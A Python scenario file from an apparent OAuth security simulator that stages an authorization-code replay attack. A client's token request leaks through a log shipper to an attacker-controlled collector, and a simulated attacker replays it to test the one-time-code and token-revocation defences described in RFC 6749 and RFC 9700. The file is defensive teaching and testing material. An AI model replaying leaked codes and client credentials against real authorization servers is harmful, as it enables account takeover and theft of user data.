"""code-replay: a leaked authorization code is presented again after the client used it.
One-time codes, and revocation of the tokens already issued from the code, stop it
(RFC 6749 §4.1.2, §10.5; RFC 9700 §4.2.4).

Alice logs in at the confidential web client as in happy-path. The client's token request
leaks whole: a misconfigured log shipper sends the client's debug log of it to a collector
the attacker reads (drawn as client -> attacker). That line holds everything the request
did: the code, the PKCE verifier and the client's own credentials (HTTP Basic). The
attacker sends the request again, byte for byte. With the defence on, the server sees a code
that was already used: invalid_grant, and it revokes the tokens issued from that code, so
alice's session at the client is cut off too (her next page load gets 401 from the API).
With it off, the replay is just another valid token request: the attacker gets a second set
of tokens and reads alice's profile. One-time use cannot help when the thief redeems first:
then it is the client's own redemption that fails (and revokes what the thief got).
"""

from __future__ import annotations

from sim import defences
from sim.parties import ATTACKER, AUTHORIZATION_SERVER
from sim.scenarios.attack_common import error_of, profile_owner, read_profile
from sim.scenarios.base import (
    AttackScenario,
    Attempt,
    Guard,
    ScenarioError,
    log_in_and_consent,
    step,
)

ALICES_PHOTO = "Tea party"


class CodeReplay(AttackScenario):
    name = "code-replay"
    description = "A leaked code is redeemed again after the client used it (one-time codes)"
    rfc = "RFC 6749 §4.1.2, §10.5; RFC 9700 §4.2.4"
    guards = (
        Guard(
            defences.ONE_TIME_CODE,
            step(ATTACKER, AUTHORIZATION_SERVER, "POST", "/token"),
            "this code was already used: invalid_grant, and the tokens issued from it are revoked",
            "the used code is accepted again and issues a second set of tokens",
            "RFC 6749 §4.1.2, RFC 9700 §4.2.4",
        ),
    )

    def settings(self, stage) -> dict:
        return {"request_log_to": stage.attacker_url + "/log"}

    def attack(self, stage, flow, off, attacker) -> Attempt:
        victim = stage.user_agent(flow)
        home = log_in_and_consent(victim, victim.get(stage.client_url + "/login"))
        if ALICES_PHOTO not in home.text:
            raise ScenarioError("alice's login at the client did not succeed")
        leaked = next(
            (
                i["params"]
                for i in attacker.loot("log")
                if "authorization_code" in i["params"].get("body", "")
            ),
            None,
        )
        if leaked is None:
            raise ScenarioError("the client's token request never reached the log collector")
        replay = attacker.http.post(
            leaked["url"],
            data=leaked["body"].encode(),
            headers={
                "Authorization": leaked["authorization"],
                "Content-Type": "application/x-www-form-urlencoded",
            },
            timeout=10,
        )
        profile = (
            read_profile(attacker.http, stage, replay.json()["access_token"]) if replay.ok else None
        )
        owner = profile_owner(profile)
        again = victim.get(stage.client_url + "/")  # alice reloads the client's page
        return Attempt(
            {
                "leaked": sorted(k for k in ("code", "code_verifier") if f"{k}=" in leaked["body"])
                + (["client credentials"] if leaked["authorization"] else []),
                "replay_status": replay.status_code,
                "replay_error": error_of(replay) or None,
                "attacker_read_profile_of": owner,
                "victim_session_still_works": ALICES_PHOTO in again.text,
            },
            proof=profile if owner == "alice" else None,
            proves="the attacker reads alice's profile with tokens from the replayed code",
        )


SCENARIOS = [CodeReplay()]
